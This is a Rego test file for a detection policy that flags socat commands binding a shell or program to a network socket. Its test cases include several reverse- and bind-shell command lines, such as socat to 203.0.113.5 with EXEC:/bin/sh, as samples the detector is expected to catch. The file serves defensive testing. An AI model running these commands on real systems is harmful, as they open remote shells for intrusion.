package hasp.policies.process.socat_runs_program_test

import data.hasp.policies.process.socat_runs_program
import data.hasp.testing

found(subject) := violations if {
	violations := socat_runs_program.violations with input as subject
}

found_with(subject, changes) := violations if {
	parameters := object.union(data.hasp.parameters["socat-runs-program"], changes)
	violations := socat_runs_program.violations with input as subject
		with data.hasp.parameters["socat-runs-program"] as parameters
}

test_finds_shells[command] if {
	some command in [
		["socat", "TCP:203.0.113.5:1", "EXEC:/bin/sh"],
		["socat", "tcp:203.0.113.5:1", "exec:'bash -li',pty,stderr"],
		["socat", "TCP-LISTEN:1,fork", "EXEC:bash,pty"],
		["socat", "TCP:203.0.113.5:1", "SYSTEM:id"],
		["socat", "TCP:203.0.113.5:1", "shell:id"],
	]
	count(found(testing.commanded(command))) == 1
}

test_leaves_others[command] if {
	some command in [
		"socat TCP-LISTEN:8080,fork TCP:db:5432",
		"socat - UNIX-CONNECT:/run/x.sock",
		"socat TCP4-LISTEN:1936,fork EXEC:/health.sh",
	]
	count(found(testing.command(command))) == 0
}

test_targets_are_a_parameter if {
	count(found_with(testing.command("socat TCP-LISTEN:1 EXEC:/health.sh"), {"targets": ["health.sh"]})) == 1
}

test_points_at_the_arguments if {
	testing.paths(found(testing.commanded(["socat", "TCP:203.0.113.5:1", "EXEC:/bin/sh"]))) == {"/event/process/args"}
}
